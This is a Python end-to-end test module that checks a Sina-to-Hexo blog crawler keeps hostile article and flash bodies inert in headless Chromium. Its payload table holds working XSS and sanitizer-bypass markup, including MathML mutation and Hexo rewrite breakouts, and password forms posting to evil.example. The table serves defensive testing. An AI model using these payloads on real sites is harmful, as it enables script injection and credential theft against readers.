"""Attacks on the reader, the way a blog publishes a post: every payload is put in an
article page and in a 7×24 flash, crawled end to end by the real spider, turned into a
site by ``hexo generate`` with a new Hexo 7 site's filters (external links rewritten over
every page, fenced code highlighted) and its default theme (landscape), served on
127.0.0.1 and opened in headless Chromium, which focuses, hovers and clicks everything in
each post body, on the post's page and on the index page that shows it
(tests/support/blog.py).  Nothing may run, navigate, open a frame, load a document off
the site or leave markup that can, in either body style (post format §3 rules 5, 6, 9).

What Hexo rendered for each post must also be the tree BODY is (parsed as the reader's
browser parses it), but for target/rel on external links, and every post written must
be published.

A control shows that each payload is live: the same bodies with no rule but the parse
and the removal of scripts, written by the HTML standard's fragment serialisation as
parse5 (RSSHub's) and browsers wrote it until 2025 (attribute values escape only `&`,
NBSP and `"`; the text of an element named style, xmp… is raw whatever its namespace:
the crawler's writer was namespace-blind before rule 6 and wrote `<` raw in values before
version 3), put raw into a post which Hexo then rewrites as it does any post, are each
caught by the audit, and most of them run.

One crawl per body style (articles and flashes together), one ``hexo generate`` per
site (clean, sample, control), one Chromium session for every page of the three.

Needs Node.js, ``npm ci --prefix tests/hexo`` and Debian's chromium; fails, never skips.
"""

from __future__ import annotations

import copy
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from crawler.hexo.body import BodyStyle, container_inner_html
from crawler.hexo.paths import post_file_name, post_relative_path
from crawler.hexo.post import PostContent, render_post_bytes
from tests.conftest import corpus_case
from tests.support.blog import (
    POST_BODY_START,
    PageAudit,
    RenderedPost,
    Site,
    audit_pages,
    body_tree,
    build_site,
    markdown_free_block,
    page_body_trees,
    post_body,
    posts_written,
    published_post_pages,
    rendered_body_tree,
    require_blog_tools,
    serve,
    tree_differences,
)
from tests.support.crawl import files_under, run_crawl
from tests.support.replay_proxy import ReplayProxy, RollApi, ZhiboApi

pytestmark = [pytest.mark.e2e, pytest.mark.hexo, pytest.mark.browser]

SEED = corpus_case("seed-haiguan")
CATEGORIES = ("金融", "新浪财经", "新浪财经－国內")
STYLES: tuple[BodyStyle, ...] = ("clean", "sample")
KINDS = ("article", "flash")
# Posts per index page: Hexo's default, so that an index page shows several excerpts.
PER_PAGE = 10

# name -> what a hostile (or compromised) article page holds in its body container, and
# what a flash's rich text holds. Written on one line with character references where a
# line break is needed in a value or in text, so that a flash (a <p> per line) keeps it.
PAYLOADS: dict[str, str] = {
    # Event handlers, on any element, some firing without the reader doing anything.
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(2)></svg>",
    "details-ontoggle": "<details open ontoggle=alert(3)><summary>s</summary></details>",
    "input-autofocus-onfocus": "<input autofocus onfocus=alert(4)>",
    "p-onmouseover": "<p onmouseover=alert(5)>hover me</p>",
    "video-source-onerror": "<video><source onerror=alert(6)></video>",
    "onanimationstart": "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(7)>a</p>",
    "svg-animate-onbegin": "<svg><animate onbegin=alert(8) attributeName=x dur=1s></animate></svg>",
    "svg-set-onbegin": "<svg><set onbegin=alert(9) attributeName=x to=1></set></svg>",
    # Other documents in the page.
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.alert(10)</script>"></iframe>',
    "iframe-src-javascript": '<iframe src="javascript:parent.alert(11)"></iframe>',
    "object-data-html": '<object data="data:text/html,<script>alert(12)</script>"></object>',
    "embed-data-html": '<embed src="data:text/html,<script>alert(13)</script>">',
    "object-javascript": '<object data="javascript:alert(14)"></object>',
    # Taking over the page.
    "base-in-body": '<p>a</p><base href="https://evil.example/">',
    "meta-refresh-in-body": '<p>a</p><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link-in-body": '<p>a</p><link rel="stylesheet" href="https://evil.example/x.css">',
    # Links that run script when followed (and the audit clicks them), plain and obfuscated.
    "a-javascript": '<a href="javascript:alert(15)">x</a>',
    "a-java-tab-script": '<a href="java&#x09;script:alert(16)">x</a>',
    "a-java-newline-script": '<a href="java&#x0A;script:alert(17)">x</a>',
    "a-entity-colon": '<a href="javascript&colon;alert(18)">x</a>',
    "a-leading-control": '<a href="&#x01; JaVaScRiPt:alert(19)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(20)">x</a>',
    "a-data-html": '<a href="data:text/html,<script>alert(21)</script>">x</a>',
    "form-action": '<form action="javascript:alert(22)"><button>b</button></form>',
    "button-formaction": '<form><button formaction="java&#1;script:alert(23)">b</button></form>',
    # SVG: links and animations that set attributes.
    "svg-a-xlink-href": '<svg><a xlink:href="javascript:alert(24)"><text x="10" y="20">x</text></a></svg>',
    "svg-animate-href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(25)"/><text x="10" y="20">x</text></a></svg>'
    ),
    "svg-set-href": (
        '<svg><a><set attributeName="href" to="javascript:alert(26)"/><text x="10" y="20">x</text></a></svg>'
    ),
    # Template content, and declarative shadow DOM (the browser turns the template into a shadow root).
    "template-content": "<template><img src=x onerror=alert(27)></template>",
    "shadow-root": "<div><template shadowrootmode=open><img src=x onerror=alert(28)></template></div>",
    # The MathML mutation family: inert on the page, live if written back raw.
    "math-style": "<math><style>&amp;lt;img src=x onerror=alert(29)&amp;gt;</style></math>",
    "math-mtext-mglyph-style": (
        "<math><mtext><mglyph><style>&amp;lt;img src=x onerror=alert(30)&amp;gt;</style></mglyph></mtext></math>"
    ),
    "math-noscript": "<math><noscript>&amp;lt;img src=x onerror=alert(31)&amp;gt;</noscript></math>",
    "math-xmp": "<math><xmp>&amp;lt;img src=x onerror=alert(32)&amp;gt;</xmp></math>",
    "math-iframe": "<math><iframe>&amp;lt;img src=x onerror=alert(33)&amp;gt;</iframe></math>",
    "math-noembed": "<math><noembed>&amp;lt;img src=x onerror=alert(34)&amp;gt;</noembed></math>",
    "svg-style": "<svg><style>&amp;lt;img src=x onerror=alert(35)&amp;gt;</style></svg>",
    # The classic sanitizer bypass: a comment that only exists in one namespace.
    "mglyph-table-comment": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(36)&gt;">'
    ),
    # --- issue 16: what Hexo itself rewrites ---
    # Hexo's external-link filter (every generated page): its regular expression finds an
    # <a …href="http…"> inside a value, or takes a value's href= / rel='…' for the tag's,
    # and inserts quoted attributes there, splitting the value open.
    "title-a-href": '<img src="/x.png" title="<a href=\'https://evil.example/\'> <img src=x onerror=alert(40)>">',
    "title-href-onmouseover": '<a title="href=x onmouseover=alert(41)//" href="https://evil.example/">x</a>',
    "title-rel-onmouseover": '<a title="rel=\'x\' onmouseover=alert(42)//" href="https://evil.example/">x</a>',
    "title-ends-rel": '<a title="x rel=" data-x=" onmouseover=alert(43)// " href="https://evil.example/">x</a>',
    # …and the first href= of the tag is what it rewrites: a data-href before the real one
    # becomes the link's href.
    "data-href-javascript": '<a data-href="javascript:alert(44)" href="https://evil.example/">x</a>',
    "data-href-tab": '<a data-href="java&#x09;script:alert(45)" href="https://evil.example/">x</a>',
    # Hexo's excerpt marker in a value: <span id="more">, whose quote ends the value.
    "title-more": '<p title="<!-- more --><img src=x onerror=alert(46)>">x</p>',
    # Hexo's code fences: a line starting with ``` or ~~~ (after LF, or after U+2028 for
    # JavaScript's multi-line ^) up to the next such line is escaped into a <figure>
    # whose quotes end the value; what follows is markup.
    "attr-fence-backtick": '<p title="a&#10;```&#10;```&#10;<img src=x onerror=alert(47)>">x</p>',
    "attr-fence-tilde": '<p title="a&#10;~~~&#10;~~~&#10;<img src=x onerror=alert(48)>">x</p>',
    "attr-fence-u2028": '<p title="a&#x2028;```&#10;```&#10;<img src=x onerror=alert(49)>">x</p>',
    # A fence from a text line to a line in a <style> or a comment swallows the <style> or
    # <!--, and the raw text after the closing fence is markup. (Raw text needs real line
    # breaks: in a flash, a <p> per line leaves no line starting with the fence.)
    "fence-text-style": "<p>\n```\n</p><style>\n```\n<img src=x onerror=alert(50)>\n</style>",
    "fence-text-comment": "<p>\n~~~\n</p><!--\n~~~\n<img src=x onerror=alert(51)>\n-->",
    # After a blank line marked reads Markdown (the sample style keeps blank lines).
    "markdown-link-blank-line": "<p>a</p>\n\n[x](javascript:alert(52))\n\n<p>b</p>",
    "markdown-link-entity-blank-line": "<p>链接&#10;&#10;[x](javascript:alert(53))</p>",
    # --- issue 16: the reader's second parse (no-quirks, inside the post's <div>) ---
    # Nested <form>s (the tree of this markup, parsed once: a flash's text is) serialise to
    # markup that parses into another tree: the inner form is dropped, <mglyph> becomes
    # MathML, its <style> markup, and the <img> is live. (An article page is parsed, written
    # and parsed again before the rules: there the second parse already made it live.)
    "nested-form-mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(54)></style>",
    # In a quirks-mode parse <table> stays inside <p>, so the <mglyph> after it is HTML and
    # its <style> raw text; in the blog's no-quirks page <table> closes the <p>, <mglyph> is
    # MathML and the <img> breaks out live. (Its page has no doctype: see QUIRKS_PAGES.)
    "p-table-mathml": (
        "<math><mtext><p><table></table><mglyph><style><img src=x onerror=alert(55)></style></mglyph></p>"
        "</mtext></math>"
    ),
    # <plaintext> turns the rest of the page (the theme's scripts included) into text.
    "plaintext": "<plaintext><img src=x onerror=alert(56)>",
    # A password form posting off-site (clicking its button submits it).
    "password-form-offsite": (
        '<form action="https://evil.example/login" method="post"><input type="password" name="pw">'
        "<button>登录</button></form>"
    ),
    "password-formaction-offsite": (
        '<form method="post"><input type="password" name="pw">'
        '<button formaction="https://evil.example/login">登录</button></form>'
    ),
}

# Served without a doctype: the page (and so its first parse) is in quirks mode.
QUIRKS_PAGES = frozenset({"p-table-mathml"})
# The text after these is gone from the post, by the post format: <plaintext> swallows the
# rest of the page; in the other, lexbor's namespace-blind inner HTML (§3's input) writes the
# MathML <style>'s comment raw, and its `<!--` then runs to the end (a comment: clean drops it).
SWALLOWS_THE_REST = frozenset({"plaintext", "mglyph-table-comment"})


def _is_sina(url: str) -> bool:
    """The article's own images and links are on Sina; loading those is not an attack."""
    host = urlsplit(url).hostname or ""
    return host.endswith((".sina.com.cn", ".sinaimg.cn"))


# As on a real Sina page, the body starts long after the first 4,096 characters, where
# Scrapy looks for a meta refresh to follow (the crawler's own handling of one is not
# what this module tests).
_HEAD = '<meta charset="utf-8"><title>新浪财经</title><style>' + "p{margin:0}" * 500 + "</style>"


def _page(name: str) -> bytes:
    doctype = "" if name in QUIRKS_PAGES else "<!DOCTYPE html>"
    return (
        f"{doctype}<html><head>{_HEAD}</head><body>"
        f'<div id="artibody"><p>正文开始。</p>{PAYLOADS[name]}<p>正文结束。</p></div></body></html>'
    ).encode()


def _title(name: str) -> str:
    return f"攻击 {name}"


def _items() -> dict[str, dict[str, Any]]:
    items = {}
    for number, name in enumerate(PAYLOADS):
        publishid = f"xsspayl{number:07d}"
        item = copy.deepcopy(SEED.item)
        url = f"https://finance.sina.com.cn/roll/2026-09-28/doc-i{publishid}.shtml"
        ctime = str(1790000000 - number * 60)
        item.update(url=url, title=_title(name), ctime=ctime, intime=ctime, mtime=ctime, docid=f"comos:{publishid}")
        items[name] = item
    return items


def _flashes() -> list[dict[str, Any]]:
    """One flash per payload, newest first, in the live API's shape: its rich text is the
    payload between a 【title】 line and a closing line."""
    flashes = []
    for number, name in enumerate(PAYLOADS):
        # Beijing wall time, 30 s after the article of the same payload.
        created = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(1790000000 - number * 60 + 30 + 8 * 3600))
        flashes.append(
            {
                "id": 7000000 - number,
                "zhibo_id": 152,
                "type": 0,
                "rich_text": f"【{_title(name)}】正文开始。\n{PAYLOADS[name]}\n正文结束。",
                "multimedia": "",
                "create_time": created,
                "update_time": created,
                "ext": "{}",
                "tag": [],
                "docurl": "",
            }
        )
    return flashes


Key = tuple[str, str]  # (kind, payload name)


@dataclass
class Published:
    """One site: its posts by (kind, payload name), and the audit of every page."""

    site: Site
    public: Path
    root: str
    posts: dict[Key, bytes]  # the bytes of each post (the control's as written here)
    rendered: dict[Key, RenderedPost]
    audits: dict[Key, PageAudit]  # the post's page
    index_audits: dict[str, PageAudit]  # by index page path
    index_of: dict[Key, str]  # the index page that shows the post

    def shown_on(self, index_path: str) -> list[Key]:
        return [key for key, path in self.index_of.items() if path == index_path]


def _key(post: RenderedPost) -> Key:
    kind = "flash" if "新浪财经－7x24" in post.source else "article"
    name = post.title.removeprefix("攻击 ")
    assert name in PAYLOADS, post.title
    return kind, name


@dataclass
class _Built:
    site: Site
    public: Path
    root: str
    posts: dict[Key, bytes]


def _build(posts_dir: Path, served: Path, root: str) -> _Built:
    site = build_site(posts_dir, served / root.strip("/"), per_page=PER_PAGE, root=root)
    files = files_under(posts_dir)
    return _Built(site, served / root.strip("/"), root, {_key(post): files[post.source] for post in site.posts})


def _audit_all(served: Path, built: dict[str, _Built]) -> dict[str, Published]:
    """Every page of every site (post pages and index pages) in one Chromium session."""
    with serve(served) as base_url:
        paths = [
            f"{b.root.strip('/')}/{page}"
            for b in built.values()
            for page in [*(post.path for post in b.site.posts), *(index.path for index in b.site.indexes)]
        ]
        audits = audit_pages(base_url, paths, settle_ms=250, concurrency=6)
    published = {}
    for name, b in built.items():
        prefix = b.root.strip("/")
        published[name] = Published(
            site=b.site,
            public=b.public,
            root=b.root,
            posts=b.posts,
            rendered={_key(post): post for post in b.site.posts},
            audits={_key(post): audits[f"{prefix}/{post.path}"] for post in b.site.posts},
            index_audits={index.path: audits[f"{prefix}/{index.path}"] for index in b.site.indexes},
            index_of={_key(post): b.site.index_of(post.source).path for post in b.site.posts},
        )
    return published


# --- the control: the payloads without rules 3 to 9 --------------------------------------


_VOID = frozenset(
    {"area", "base", "basefont", "bgsound", "br", "col", "embed", "frame", "hr", "img", "input", "keygen"}
    | {"link", "meta", "param", "source", "track", "wbr"}
)
_RAW_TEXT = frozenset({"style", "script", "xmp", "iframe", "noembed", "noframes", "plaintext", "noscript"})


def _classic_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("\xa0", "&nbsp;").replace("<", "&lt;").replace(">", "&gt;")


def _classic_value(value: str | None) -> str:
    return (value or "").replace("&", "&amp;").replace("\xa0", "&nbsp;").replace('"', "&quot;")


def _classic_html(node: LexborNode) -> str:
    """The children of ``node`` as the HTML fragment serialisation algorithm wrote them
    before 2025 (parse5 still does): text escapes ``& NBSP < >``, attribute values only
    ``& NBSP "``, the text of an element named style, script, xmp, iframe, noembed,
    noframes, plaintext or noscript is raw whatever its namespace."""
    out = []
    child = node.first_child
    while child is not None:
        if child.is_text_node:
            text = child.text_content or ""
            out.append(text if node.tag in _RAW_TEXT else _classic_text(text))
        elif child.is_comment_node:
            out.append(child.html or "")  # <!--data-->: comment_content would strip the data
        elif child.is_element_node:
            tag = child.tag or ""
            attributes = "".join(f' {key}="{_classic_value(value)}"' for key, value in child.attributes.items())
            out.append(f"<{tag}{attributes}>")
            if tag not in _VOID:
                content = child
                if tag == "template":
                    fragments = child.template_fragments()
                    content = next(f for f in fragments if f.parent is not None and f.parent.mem_id == child.mem_id)
                out.append(f"{_classic_html(content)}</{tag}>")
        child = child.next
    return "".join(out)


def _unprotected_body(name: str) -> str:
    """The body container's HTML with rules 1 and 2 only (parsed as the page is, scripts
    removed), written back by the classic namespace-blind serialisation: no handler, URL
    or element removed, nothing escaped for Hexo."""
    page = LexborHTMLParser(_page(name).decode(), scripting=True)
    container = page.css_first("#artibody")
    assert container is not None
    body = LexborHTMLParser(container_inner_html(container), scripting=True).body
    assert body is not None
    for script in body.css("script"):
        script.decompose()
    return _classic_html(body)


def _write_control(posts_dir: Path) -> None:
    for number, (name, item) in enumerate(_items().items()):
        post = PostContent(
            title=item["title"],
            categories=CATEGORIES,
            author="新浪财经",
            date=time.strftime("%a, %d %b %Y %H:%M:%S GMT", time.gmtime(1790000000 - number * 60)),
            headimg=None,
            body=_unprotected_body(name),
        )
        path = posts_dir / post_relative_path(CATEGORIES, post_file_name(item["title"], ""))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(render_post_bytes(post))


@pytest.fixture(scope="module")
def blog(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Published]:
    """The payloads crawled end to end in both body styles (articles and flashes in one
    crawl), each style's posts and the control's made into a site, every page audited."""
    require_blog_tools()
    items = _items()
    work = tmp_path_factory.mktemp("payloads")
    served = work / "served"
    built: dict[str, _Built] = {}
    with ReplayProxy() as proxy:
        for name, item in items.items():
            proxy.add(item["url"], _page(name))
        RollApi({("155", "1686"): list(items.values())}).install(proxy)
        ZhiboApi({"152": _flashes()}).install(proxy)
        for style in STYLES:
            crawl = work / style
            result = run_crawl(proxy.url, crawl, "sections=china,zhibo", "pages=3", settings={"HEXO_BODY": style})
            assert result.returncode == 0, result.log[-3000:]
            assert result.stat("sina/posts/new") == 2 * len(PAYLOADS), result.log[-3000:]
            built[style] = _build(crawl / "posts", served, f"/{style}/")
    _write_control(work / "control")
    built["control"] = _build(work / "control", served, "/control/")
    return _audit_all(served, built)


CASES = [(style, kind, name) for style in STYLES for kind in KINDS for name in PAYLOADS]


def _case_id(case: tuple[str, str, str]) -> str:
    return "-".join(case)


def _post_text(published: Published, key: Key) -> str:
    return published.posts[key].decode("utf-8")


@pytest.mark.parametrize("case", CASES, ids=_case_id)
def test_payload_is_inert_in_the_blog(blog: dict[str, Published], case: tuple[str, str, str]) -> None:
    style, kind, name = case
    published = blog[style]
    key = (kind, name)
    post = published.rendered[key]
    index = published.index_audits[published.index_of[key]]
    slug = post.source.removesuffix(".md")
    on_index = [finding for finding in index.dom_findings if finding.startswith(f"post-{slug}: ")]
    problems = published.audits[key].problems(offsite_ok=_is_sina)
    assert (problems, on_index) == ([], []), _post_text(published, key)
    assert "正文开始。" in post.content
    assert name in SWALLOWS_THE_REST or "正文结束。" in post.content


@pytest.mark.parametrize("style", STYLES)
def test_index_pages_are_inert(blog: dict[str, Published], style: str) -> None:
    """Every index page (the posts' excerpts, PER_PAGE to a page) runs nothing either."""
    published = blog[style]
    assert len(published.index_audits) == -(-2 * len(PAYLOADS) // PER_PAGE)
    failing = {
        path: (audit.problems(offsite_ok=_is_sina), [f"{kind} {name}" for kind, name in published.shown_on(path)])
        for path, audit in published.index_audits.items()
        if audit.problems(offsite_ok=_is_sina)
    }
    assert failing == {}


@pytest.mark.parametrize("case", CASES, ids=_case_id)
def test_hexo_publishes_body_as_written(blog: dict[str, Published], case: tuple[str, str, str]) -> None:
    """What Hexo rendered for the post, and what the post's page shows, is the tree BODY
    is, but for target/rel that Hexo adds to external links on the page."""
    style, kind, name = case
    published = blog[style]
    key = (kind, name)
    text = _post_text(published, key)
    body = post_body(text, braces=False)  # braces: see tests/support/blog.py
    post = published.rendered[key]
    if style == "sample" and markdown_free_block(body) != body:
        # Blank lines of the sample style: Hexo reads Markdown after the first (see
        # tests/test_e2e_published.py); the raw-HTML block before it passes untouched.
        assert post.content.startswith(POST_BODY_START + markdown_free_block(body)), text
        return
    expected = body_tree(body)
    assert tree_differences(expected, rendered_body_tree(post.content)) == [], text
    (shown,) = page_body_trees((published.public / post.path).read_text(encoding="utf-8"))
    assert tree_differences(expected, shown, link_attributes_ok=True) == [], text


@pytest.mark.parametrize("style", STYLES)
def test_every_post_written_is_published(blog: dict[str, Published], style: str) -> None:
    published = blog[style]
    written = posts_written(published.public.parent.parent / style / "posts")
    pages = published_post_pages(published.public)
    assert published.site.unpublished == (), "written but not published: " + "; ".join(
        f"{source} ({why})" for source, why in published.site.unpublished
    )
    assert len(written) == len(pages) == 2 * len(PAYLOADS)


# --- the control: the payloads are live without the rules ---------------------------------

# A bypass of sanitisers that parse twice (DOMPurify): this pipeline never makes it live,
# so it is only a regression case for the table above.
NOT_LIVE_EVEN_UNPROTECTED = frozenset({"mglyph-table-comment"})


def _control_problems(control: Published, name: str) -> list[str]:
    key = ("article", name)
    index = control.index_audits[control.index_of[key]]
    slug = control.rendered[key].source.removesuffix(".md")
    on_index = [f"index page: {f}" for f in index.dom_findings if f.startswith(f"post-{slug}: ")]
    return control.audits[key].problems(offsite_ok=_is_sina) + on_index


@pytest.mark.parametrize("name", [name for name in PAYLOADS if name not in NOT_LIVE_EVEN_UNPROTECTED])
def test_payload_is_live_without_the_rules(blog: dict[str, Published], name: str) -> None:
    control = blog["control"]
    assert _control_problems(control, name), f"{name}: the audit sees nothing wrong even unprotected"


def test_most_payloads_run_without_the_rules(blog: dict[str, Published]) -> None:
    control = blog["control"]
    ran = sorted(name for (_, name), audit in control.audits.items() if audit.dialogs)
    print(f"\nunprotected: {len(ran)} of {len(PAYLOADS)} payloads ran script: {', '.join(ran)}")
    assert len(ran) >= len(PAYLOADS) // 2, ran
    for family in ("math-style", "math-mtext-mglyph-style", "math-noscript", "math-xmp", "math-noembed"):
        assert family in ran, f"{family} should run when written back namespace-blind"


# The classes of issue 16 (Hexo's rewriting, Markdown after a blank line, the reader's
# second parse): each of these runs script in the control's blog, a dialog on its page.
RUN_THROUGH_HEXO_OR_THE_SECOND_PARSE = (
    "title-a-href",
    "title-href-onmouseover",
    "title-rel-onmouseover",
    "title-ends-rel",
    "data-href-javascript",
    "data-href-tab",
    "title-more",
    "attr-fence-backtick",
    "attr-fence-tilde",
    "attr-fence-u2028",
    "fence-text-style",
    "fence-text-comment",
    "markdown-link-blank-line",
    "markdown-link-entity-blank-line",
    "nested-form-mglyph",
    "p-table-mathml",
)


@pytest.mark.parametrize("name", RUN_THROUGH_HEXO_OR_THE_SECOND_PARSE)
def test_hexo_and_the_second_parse_make_the_payload_run(blog: dict[str, Published], name: str) -> None:
    control = blog["control"]
    number = PAYLOADS[name].split("alert(", 1)[1].split(")", 1)[0]
    audit = control.audits[("article", name)]
    assert f"alert: {number}" in audit.dialogs, (audit.dialogs, control.posts[("article", name)].decode())


def test_control_password_forms_post_off_site(blog: dict[str, Published]) -> None:
    control = blog["control"]
    for name in ("password-form-offsite", "password-formaction-offsite"):
        audit = control.audits[("article", name)]
        assert "click: main frame document request https://evil.example/login" in audit.navigations, audit
